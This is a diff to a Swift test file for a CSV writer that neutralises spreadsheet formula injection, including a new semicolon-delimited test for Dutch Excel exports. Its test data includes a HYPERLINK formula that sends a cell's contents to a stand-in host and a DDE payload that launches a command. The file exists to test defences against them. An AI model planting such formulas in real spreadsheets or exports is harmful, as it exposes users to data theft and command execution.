@@ -7,6 +7,8 @@ import Testing
     static let formulas = [
         "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "=1+1", "+31 6 12345678", "-2+3", "@SUM(1+1)", "\tTab", "\r=1",
         "-", "+", "--3", "+15.6 pp", "-.5", "-1e", "-3 %%", "=", "@",
+        // A number behind = or @ is still a formula: only a sign makes a plain number.
+        "=1", "=1,5", "@5", "=-3", "@-1e5",
     ]
     /// Plain numbers keep their sign: a spreadsheet reads them as numbers, not formulas.
     static let numbers = ["-3", "+3", "-0.5", "-1.234,5", "-1e-5", "+2E+10", "-12,5", "0", "3", "-1.000.000", "-44 %", "+4,5%"]
@@ -46,6 +48,29 @@ import Testing
         #expect(writer.text == "row,'=cmd|' /C calc'!A0\n2,'@x\n")
     }
 
+    /// The Dutch Excel downloads (`;`, decimal comma): a Dutch negative number stays a number and
+    /// needs no quotes; a formula is guarded and quoted only for a `;` in it.
+    @Test func semicolonDelimitedCellsAreGuardedToo() throws {
+        var writer = CSVWriter(header: ["Gemeente", "Verschil", "Opmerking"], delimiter: .semicolon)
+        writer.append(["=HYPERLINK(\"http://x.example\";\"klik\")", "-12,5", "+3"])
+        writer.append(["@SUM(1;2)", "-1.234,5", "-44 %"])
+        writer.append(["Hoorn", "-3", "=1,5"])
+        #expect(writer.text == """
+            Gemeente;Verschil;Opmerking
+            "'=HYPERLINK(""http://x.example"";""klik"")";-12,5;+3
+            "'@SUM(1;2)";-1.234,5;-44 %
+            Hoorn;-3;'=1,5
+
+            """)
+        let read = try PythonCSV.read(writer.text, delimiter: ";")
+        #expect(read.map { $0.map(CSVWriter.originalCell) } == [
+            ["Gemeente", "Verschil", "Opmerking"],
+            ["=HYPERLINK(\"http://x.example\";\"klik\")", "-12,5", "+3"],
+            ["@SUM(1;2)", "-1.234,5", "-44 %"],
+            ["Hoorn", "-3", "=1,5"],
+        ])
+    }
+
     /// Written by CSVWriter, read by Python's csv module (a reader spreadsheets and scripts
     /// share): every cell comes back, guarded, and `originalCell` restores it.
     @Test func cellsRoundTripThroughPythonsCSVReader() throws {
@@ -77,7 +102,7 @@ enum PythonCSV {
         var description: String
     }
 
-    static func read(_ text: String) throws -> [[String]] {
+    static func read(_ text: String, delimiter: String = ",") throws -> [[String]] {
         let file = FileManager.default.temporaryDirectory.appendingPathComponent("python-csv-\(UUID().uuidString).csv")
         try Data(text.utf8).write(to: file)
         defer { try? FileManager.default.removeItem(at: file) }
@@ -86,8 +111,8 @@ enum PythonCSV {
         process.arguments = ["python3", "-c", """
             import csv, json, sys
             with open(sys.argv[1], newline="", encoding="utf-8") as f:
-                json.dump(list(csv.reader(f)), sys.stdout)
-            """, file.path]
+                json.dump(list(csv.reader(f, delimiter=sys.argv[2])), sys.stdout)
+            """, file.path, delimiter]
         let output = Pipe()
         process.standardOutput = output
         try process.run()
